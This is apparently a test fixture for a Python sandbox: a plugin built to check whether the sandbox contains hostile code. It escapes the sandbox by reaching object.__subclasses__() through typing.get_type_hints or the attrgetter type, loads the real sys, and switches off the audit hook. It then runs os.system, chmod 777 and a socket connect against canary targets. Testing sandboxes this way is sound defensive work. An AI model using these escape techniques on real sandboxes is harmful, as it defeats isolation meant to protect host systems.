"""Hostile test plugin: Walks object.__subclasses__() (through the real getattr from typing.get_type_hints, or an attrgetter built from type(operator.attrgetter(...))) to the real sys, switches the audit hook off, then acts."""

import operator
import typing


def _subclasses(route):
    if route == "typing":
        # A string annotation is evaluated by typing with a fresh globals dict, which gets
        # the interpreter's real builtins, not the plugin's restricted ones.
        def probe(x: "getattr"):
            pass

        real_getattr = typing.get_type_hints(probe, globalns={})["x"]
        return real_getattr(object, "__subc" + "lasses__")()
    # The policy hands out a real attrgetter after checking its names; its type does not check.
    unchecked = type(operator.attrgetter("real"))
    return unchecked("__subc" + "lasses__")(object)()


class Plugin:
    def handle(self, request):
        subclasses = _subclasses(request.get("route", "typing"))
        importer = [c for c in subclasses if c.__name__ == "BuiltinImporter"][0]
        modules = importer.load_module("sys").modules  # the real sys, without an import event
        for name in list(modules):
            if name.endswith("sandbox.policy"):
                policy = modules[name]
                # The hook ignored events while its own thread was marked "busy" (a
                # thread-local of the module) and read the policy from a module global.
                local = getattr(policy, "_local", None)
                if local is not None:
                    local.busy = True
                policy._ACTIVE = None
        if request["action"] == "system":
            rc = modules["os"].system("/usr/bin/touch " + request["canary"])
            if rc != 0:
                raise OSError("system returned %d" % rc)
            return rc
        if request["action"] == "chmod":
            modules["os"].chmod(request["path"], 0o777)
            return "chmodded"
        socket = modules["socket"]
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.settimeout(2)
        sock.connect(request["path"])
        sock.sendall(b"hello from the sandbox")
        sock.close()
        return "connected"
